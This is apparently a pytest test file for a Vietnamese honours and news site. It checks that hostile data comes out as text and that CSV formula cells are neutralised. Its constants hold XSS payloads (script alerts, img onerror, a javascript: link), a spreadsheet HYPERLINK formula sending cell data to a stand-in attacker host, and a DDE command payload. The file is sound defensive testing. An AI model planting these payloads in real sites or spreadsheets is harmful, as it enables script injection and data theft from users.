"""Escaping: data and metadata holding `<script>`, quotes and ampersands go through the whole
pipeline (checks, Pelican, our plugins, search index, compression) and come out as text: in
the pages, in the JSON and in the CSV, where a cell starting with = + - @ is neutralised
against formula injection in spreadsheets.

The honours data follows docs/du-lieu-khen-thuong.md.
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote

import feedparser
import pytest
from bs4 import BeautifulSoup

from tests.conftest import CHROMIUM
from tests.quality.sitecheck import summary
from tests.support import article, make_content, parse, serving
from tools.build import build

# Each hostile value names where it comes from, so a failure points at the field.
TITLE = 'Tin <script>alert("tieu-de")</script> & "ngoặc kép" \'đơn\' tổng kết'
SUMMARY = "Sa-pô có dấu & (ampersand), \"ngoặc kép\" và 'nháy đơn' ở giữa câu."
TAG = 'thẻ <b>"đậm"</b> & nghiêng'
AUTHOR = 'Phóng viên <i>"Lê"</i> & Trần'
HONOUR = 'Bằng khen <script>alert("hinh-thuc")</script> & "đặc biệt"'
UNIT_KIND = 'Huyện <b>"loại"</b> & thị xã'
UNIT = 'UBND <script>alert("don-vi")</script> "Hà & Giang" \'A\''
UNIT_SHORT = 'Hà <i>&</i> "Giang"'
UNIT_ABOUT = 'Giới thiệu <img src=x onerror=alert("mo-ta")> & "trích dẫn" đơn vị.'
BLOC = 'Khối <script>alert("khoi")</script> & "Cụm" \'một\''
BLOC_ABOUT = 'Khối gồm <a href="javascript:alert(1)">các huyện</a> & "thị xã".'
ISSUER = 'Chủ tịch <script>alert("co-quan")</script> & "UBND" tỉnh'
SUBJECT = 'Về việc <b>tặng</b> Bằng khen & "thưởng" cho các tập thể'
MERIT = 'Thành tích <script>alert("thanh-tich")</script> & "xuất sắc" năm 2024'
ANNEX_GROUP = 'Phòng <script>alert("phu-luc")</script> & "Nội vụ" \'X\''
ANNEX_PERSON = 'Ông Lò Văn <img src=x onerror=alert("ca-nhan")> & "Bình"'
ANNEX_POSITION = 'Trưởng phòng "Nội vụ" & <b>Tổ chức</b>'
FORMULAS = [
    '=HYPERLINK("http://ke-xau.invalid/?d="&A1;"Bấm vào đây")',
    "+Tổ công tác số 3",
    "-Tổ công tác số 4",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

ALL_TEXT = [
    TITLE,
    TAG,
    AUTHOR,
    HONOUR,
    UNIT,
    UNIT_SHORT,
    UNIT_ABOUT,
    BLOC,
    ISSUER,
    SUBJECT,
    MERIT,
    ANNEX_GROUP,
    ANNEX_PERSON,
    ANNEX_POSITION,
    *FORMULAS,
]
# Markers that exist only if a value was written into the page as markup.
INJECTED = re.compile(r"<(script|img|b|i)\b[^>]*>\s*(alert|src=x|\"đậm|\"loại|tặng|\"Lê|&amp;)")
ATTRIBUTE_NAME = re.compile(r"^[a-z_:][a-z0-9_.:-]*$")
DECISION_ID = "7-qd-ubnd-2024"

# On one xdist worker (the site is built once per run anyway: see hostile_site).
pytestmark = pytest.mark.xdist_group("escaping")


def q(value: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(value, ensure_ascii=False)


def annex_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["STT", "Họ và tên", "Chức vụ", "Mã đơn vị"])
    writer.writerow(["I. Tập thể", "", "", ""])
    writer.writerow(["1", ANNEX_GROUP, "", "don-vi-a"])
    for number, name in enumerate(FORMULAS[:3], start=2):
        writer.writerow([str(number), name, "", "don-vi-a"])
    writer.writerow(["II. Cá nhân", "", "", ""])
    writer.writerow(["1", ANNEX_PERSON, ANNEX_POSITION, "don-vi-a"])
    writer.writerow(["2", FORMULAS[3], "=1+1", "don-vi-a"])
    return out.getvalue()


def hostile_content() -> dict[str, str]:
    honours = "honours/"
    return {
        honours + "danh-hieu.yaml": f"""\
- id: bang-khen-dac-biet
  ten: {q(HONOUR)}
  loai: hinh_thuc
  doi_tuong: [tap_the, ca_nhan]
  thu_tu: 630
""",
        honours + "don-vi.yaml": f"""\
loai_don_vi:
  - id: huyen
    ten: {q(UNIT_KIND)}
don_vi:
  - id: don-vi-a
    ten: {q(UNIT)}
    ten_ngan: {q(UNIT_SHORT)}
    loai: huyen
    mo_ta: {q(UNIT_ABOUT)}
""",
        honours + "khoi-thi-dua.yaml": f"""\
- id: khoi-a
  ten: {q(BLOC)}
  mo_ta: {q(BLOC_ABOUT)}
  cac_nam:
    - nam: 2024
      thanh_vien: [don-vi-a]
      truong_khoi: don-vi-a
      ghi_chu: {q(BLOC_ABOUT)}
""",
        honours + "quyet-dinh/2024/7-qd-ubnd.yaml": f"""\
so: 7/QĐ-UBND
ngay: 2024-03-01
co_quan: {q(ISSUER)}
trich_yeu: {q(SUBJECT)}
hinh_thuc: bang-khen-dac-biet
thanh_tich: {q(MERIT)}
tien_thuong: {q('Mỗi tập thể 1.000.000 đồng & "thưởng"')}
khoi: khoi-a
phu_luc: 7-qd-ubnd-phu-luc.csv
""",
        honours + "quyet-dinh/2024/7-qd-ubnd-phu-luc.csv": annex_csv(),
        "articles/2024/03/tin.md": article(
            title=TITLE,
            date="2024-03-05 09:00",
            summary=SUMMARY,
            tags=TAG,
            authors=AUTHOR,
            units="don-vi-a",
            bloc="khoi-a",
            decisions=DECISION_ID,
            body="Nội dung bài viết về hội nghị tổng kết.",
        ),
    }


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory):
    """Built once per run, whichever xdist worker asks first (the others wait and reuse it)."""
    shared = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        shared = shared.parent
    root = shared / "hostile-site"
    output = root / "output"
    with open(shared / "hostile-site.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (output / "index.html").exists():
            shutil.rmtree(root, ignore_errors=True)
            content = make_content(root / "content", hostile_content())
            build(content, output)
    return output


def article_page(site) -> str:
    found = [p.relative_to(site).as_posix() for p in site.glob("2024/03/*/index.html")]
    assert len(found) == 1, found
    return found[0]


def pages(site) -> dict[str, BeautifulSoup]:
    return {p.relative_to(site).as_posix(): parse(p) for p in sorted(site.rglob("*.html"))}


def visible_text(soup: BeautifulSoup) -> str:
    return " ".join(soup.get_text(" ").split())


def squash(text: str) -> str:
    return " ".join(text.split())


def test_no_value_becomes_markup(hostile_site):
    problems = []
    for rel, soup in pages(hostile_site).items():
        html = (hostile_site / rel).read_text(encoding="utf-8")
        for match in INJECTED.finditer(html):
            problems.append(f"{rel}: raw markup {match.group(0)!r}")
        for script in soup.find_all("script"):
            if "alert" in (script.string or "") and script.get("type") != "application/ld+json":
                problems.append(f"{rel}: a <script> made of data")
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                if not ATTRIBUTE_NAME.match(attr):
                    problems.append(f"{rel}: <{tag.name}> attribute {attr!r}: a quote broke out")
                elif attr.startswith("on"):
                    problems.append(f"{rel}: <{tag.name} {attr}=...> made of data")
                elif attr == "href" and str(value).strip().lower().startswith("javascript:"):
                    problems.append(f"{rel}: <a href={value!r}> made of data")
        if soup.find("img", src="x"):
            problems.append(f"{rel}: an <img src=x> made of data")
    assert not problems, summary(problems)


def test_values_are_shown_as_written(hostile_site):
    soups = pages(hostile_site)
    texts = {rel: visible_text(soup) for rel, soup in soups.items()}
    missing = [value for value in ALL_TEXT if not any(squash(value) in t for t in texts.values())]
    assert not missing, "never shown as written (escaped once, as text):\n" + "\n".join(missing)
    double = [rel for rel, t in texts.items() if "&amp;" in t or "&lt;" in t or "&#34;" in t]
    assert not double, f"escaped twice (an entity shows as text) in {double}"

    story = soups[article_page(hostile_site)]
    assert squash(story.h1.get_text()) == squash(TITLE)
    unit = texts["don-vi/don-vi-a/index.html"]
    for value in (UNIT, UNIT_ABOUT, ANNEX_GROUP, ANNEX_PERSON, *FORMULAS):
        assert squash(value) in unit, f"unit page: {value!r}"
    decision = texts[f"quyet-dinh/{DECISION_ID}/index.html"]
    for value in (ISSUER, SUBJECT, MERIT, HONOUR, ANNEX_GROUP, ANNEX_PERSON, ANNEX_POSITION):
        assert squash(value) in decision, f"decision page: {value!r}"
    assert squash(BLOC) in texts["khoi-thi-dua/khoi-a/index.html"]


def test_attributes_keep_quotes_and_ampersands(hostile_site):
    soup = pages(hostile_site)[article_page(hostile_site)]
    description = soup.find("meta", attrs={"name": "description"})["content"]
    assert description == SUMMARY
    assert soup.find("meta", property="og:description")["content"] == SUMMARY
    assert "& \"ngoặc kép\" 'đơn'" in soup.find("meta", property="og:title")["content"]
    assert "& \"ngoặc kép\" 'đơn'" in soup.title.get_text()
    ld = json.loads(soup.find("script", type="application/ld+json").string)
    assert ld["description"] == SUMMARY
    assert '& "ngoặc kép"' in ld["headline"]
    assert "<script" not in ld["headline"]  # tags stripped from the plain-text headline


def test_json_holds_the_exact_values(hostile_site):
    files = sorted((hostile_site / "du-lieu").rglob("*.json"))
    assert files, "no open data JSON under /du-lieu/"
    strings: set[str] = set()

    def walk(value):
        if isinstance(value, str):
            strings.add(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for path in files:
        walk(json.loads(path.read_text(encoding="utf-8")))
    for value in (UNIT, ISSUER, HONOUR, ANNEX_GROUP, ANNEX_PERSON, ANNEX_POSITION, *FORMULAS):
        assert value in strings, f"JSON does not hold {value!r} exactly"


def test_csv_holds_the_values_with_formulas_neutralised(hostile_site):
    files = sorted((hostile_site / "du-lieu").rglob("*.csv"))
    assert files, "no open data CSV under /du-lieu/"
    cells: list[str] = []
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"cells a spreadsheet would run as a formula: {dangerous}"
    for value in (UNIT, ISSUER, HONOUR, ANNEX_GROUP, ANNEX_PERSON, ANNEX_POSITION):
        assert value in cells, f"CSV does not hold {value!r} exactly"
    for value in [*FORMULAS, "=1+1"]:
        assert "'" + value in cells, f"CSV does not hold {value!r} neutralised as '{value}"


def test_feeds_and_sitemap_stay_well_formed(hostile_site):
    for path in [*hostile_site.rglob("*.atom.xml"), hostile_site / "sitemap.xml"]:
        if path.exists():
            ET.parse(path)  # raises on a broken document
    feed = feedparser.parse((hostile_site / "feeds/tat-ca.atom.xml").read_bytes())
    assert not feed.bozo
    assert '& "ngoặc kép"' in feed.entries[0].title


@pytest.mark.browser
def test_search_results_show_data_as_text(hostile_site, browser):
    """The search page builds its results in the browser, from the index: still text."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing")
    with serving(hostile_site) as origin:
        context = browser.new_context(locale="vi-VN")
        page = context.new_page()
        dialogs, errors = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda error: errors.append(str(error)))
        try:
            page.goto(f"{origin}/tim-kiem/?q={quote('Nội vụ')}")
            page.wait_for_load_state("networkidle")
            text = squash(page.locator("main").inner_text())
            injected = page.evaluate(
                """() => document.querySelectorAll(
                     'main img[src="x"], main script:not([src]), main b, main i').length"""
            )
        finally:
            context.close()
    assert not dialogs and not errors, (dialogs, errors)
    assert injected == 0
    assert squash(ANNEX_PERSON) in text
